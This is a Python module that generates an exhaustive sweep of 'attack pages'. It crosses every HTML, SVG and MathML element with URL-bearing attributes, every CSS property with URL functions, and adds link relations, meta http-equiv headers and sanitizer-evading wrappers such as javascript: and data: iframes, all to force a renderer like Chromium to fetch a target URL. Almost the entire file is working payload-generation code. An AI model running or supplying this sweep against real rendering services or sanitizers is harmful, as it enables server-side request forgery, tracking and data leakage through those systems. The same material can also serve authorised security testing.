"""Attack pages by the product of things: every element with every attribute, every style property with every function.

`attack_pages` holds what is known to load; this finds what nobody has thought of, also in a newer Chromium.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

_ELEMENTS: Final = (
    "a abbr acronym address applet area article aside audio b base basefont bdi bgsound blink blockquote body br "
    "button canvas caption center col command content data datalist del details dfn dialog dir div dl element em "
    "embed fencedframe fieldset figure font form frame frameset geolocation h1 head hr html iframe image img "
    "input ins isindex keygen label layer legend li link listing main map mark marquee menu menuitem meta meter "
    "model nav nobr noembed noframes noscript object ol optgroup option output p param permission picture "
    "plaintext portal pre progress q ruby script search section select selectedcontent shadow slot source span "
    "strike style summary table tbody td template textarea tfoot th time title tr track ul var video wbr webview "
    "xmp"
)
_DRAWN: Final = (
    "a altGlyph animate animateColor animateMotion animateTransform audio circle clipPath color-profile cursor "
    "defs discard ellipse feBlend feComposite feDisplacementMap feFlood feImage feMerge feTile feTurbulence "
    "filter font font-face font-face-src font-face-uri foreignObject g glyph glyphRef handler hatch iframe image "
    "line linearGradient link listener marker mask mesh meshgradient mpath path pattern polygon prefetch "
    "radialGradient rect script set solidcolor style svg switch symbol text textPath title tref tspan use video "
    "view"
)
_MATHS: Final = (
    "math maction menclose merror mfenced mfrac mglyph mi mn mo mover mpadded mphantom mroot mrow ms mspace "
    "msqrt mstyle msub mtable mtd mtext munder semantics annotation annotation-xml"
)
_ATTRIBUTES: Final = (
    "src href data action formaction poster background srcset imagesrcset ping cite longdesc usemap manifest "
    "classid codebase archive code profile icon lowsrc dynsrc xlink:href xml:base attributionsrc itemid itemtype "
    "resource about from to values begin altimg definitionURL interestfor popovertarget onload onerror"
)
_PROPERTIES: Final = (
    "animation appearance backdrop-filter background background-image behavior border border-image "
    "border-image-source -webkit-box-reflect caret-color clip clip-path color-profile content counter-reset "
    "cursor fill filter -webkit-filter font font-family font-palette hyphenate-character image-orientation "
    "initial-letter list-style list-style-image marker marker-start marker-mid marker-end mask mask-image "
    "-webkit-mask -webkit-mask-image -webkit-mask-box-image mask-border mask-border-source -moz-binding "
    "object-view-box offset offset-path outline page position-try quotes scrollbar-color shape-outside "
    "-webkit-shape-outside shape-inside stroke string-set symbols text-decoration text-emphasis transition "
    "view-transition-name will-change"
)
_FUNCTIONS: Final = (
    "url(URL)",
    "url('URL')",
    "url(URL#x)",
    "url(URL crossorigin(anonymous))",
    "src('URL')",
    "image('URL')",
    "image-set('URL' 1x)",
    "image-set(url(URL) type('image/png'))",
    "-webkit-image-set(url(URL) 1x)",
    "cross-fade(url(URL), url(URL))",
    "-webkit-cross-fade(url(URL), url(URL), .5)",
    "element(URL)",
    "paint(URL)",
    "attr(data-x, url(URL))",
    "attr(data-x type(<url>))",
    "var(--nothing, url(URL))",
    "if(style(--a:b): url(URL); else: url(URL))",
    "linear-gradient(red, blue), url(URL)",
    "local(URL), url(URL)",
)
_RELATIONS: Final = (
    "alternate|alternate stylesheet|author|canonical|compression-dictionary|dns-prefetch|expect|help|icon|import|"
    "license|manifest|mask-icon|modulepreload|monetization|next|opensearch|payment-method|pingback|preconnect|"
    "prefetch|prerender|privacy-policy|search|serviceworker|shortcut icon|stylesheet|subresource|web-package|"
    "webmention|apple-touch-icon"
)
_AS: Final = "audio document embed fetch font image manifest object report script style track video worker json"
_EQUIVALENTS: Final = (
    "refresh Link Content-Security-Policy Content-Security-Policy-Report-Only Location Content-Location "
    "Content-Base Default-Style origin-trial NEL Report-To Reporting-Endpoints Speculation-Rules Alt-Svc "
    "SourceMap Use-As-Dictionary"
)
_CONTENTS: Final = ("0;url=URL", "<URL>; rel=preload; as=image", "default-src *; report-uri URL", '"URL"')
_WRAPS: Final = (
    "<iframe srcdoc='{}'></iframe>",
    "<template shadowrootmode=open>{}</template>",
    "<noscript>{}</noscript>",
    "<!--[if gte mso 9]>{}<![endif]-->",
    "<![CDATA[{}]]>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<xmp>{}</xmp>{}",
    "<object>{}</object>",
    "<details open>{}</details>",
    "<div popover>{}</div>",
    "<textarea>{}</textarea>{}",
    "<iframe src='data:text/html,{}'></iframe>",
    "<embed src='data:text/html,{}'>",
    "<iframe src=\"javascript:'{}'\"></iframe>",
)
_INSIDE: Final = "<img src=URL><link rel=stylesheet href=URL><iframe src=URL></iframe><style>@import url(URL);</style>"


def sweep(target: str) -> list[str]:
    """All pages against `target`."""
    made = (*_element_pages(), *_style_pages(), *_head_pages(), *(wrap.replace("{}", _INSIDE) for wrap in _WRAPS))
    return [page.replace("URL", target) for page in made]


def _element_pages() -> Iterator[str]:
    loaded = " ".join(f'{name}="URL"' for name in _ATTRIBUTES.split())
    more = 'content="0;url=URL" style="background:url(URL)" type="image" rel="stylesheet preload" as="image" autoplay'
    for name in _ELEMENTS.split():
        yield f"<{name} {loaded} {more} autofocus>x</{name}>"
    for name in _DRAWN.split():
        paints = 'filter="url(URL#f)" fill="url(URL#p)" width="9" height="9"'
        yield f"<svg><g><{name} {loaded} {paints}>x</{name}></g></svg>"
        yield f'<svg><rect width="9" height="9"><{name} attributeName="href" {loaded} dur="1s"/></rect></svg>'
    for name in _MATHS.split():
        yield f'<math><{name} {loaded} encoding="text/html"><mi>x</mi><img src="URL"></{name}></math>'


def _style_pages() -> Iterator[str]:
    for function in _FUNCTIONS:
        rules = "".join(f".c{number}{{{name}:{function}}}" for number, name in enumerate(_PROPERTIES.split()))
        shown = "".join(f'<p class="c{number}" data-x="URL">x</p>' for number in range(_PROPERTIES.count(" ") + 1))
        parts = "".join(f"li::{part}{{content:{function};background:{function}}}" for part in ("before", "marker"))
        page = f"@page{{background:{function};@top-center{{content:{function}}}}}"
        page += f"@font-face{{font-family:z;src:{function}}}"
        yield f"<style>{rules}@media print{{{rules}}}{parts}{page}p,li{{font-family:z}}</style>{shown}<ul><li>x</ul>"


def _head_pages() -> Iterator[str]:
    for relation in _RELATIONS.split("|"):
        yield f'<link rel="{relation}" href="URL" crossorigin>'
    for kind in _AS.split():
        yield "".join(f'<link rel="{one}" as="{kind}" href="URL">' for one in ("preload", "prefetch", "modulepreload"))
    for name in _EQUIVALENTS.split():
        yield "".join(f"<meta http-equiv='{name}' content='{content}'>" for content in _CONTENTS)
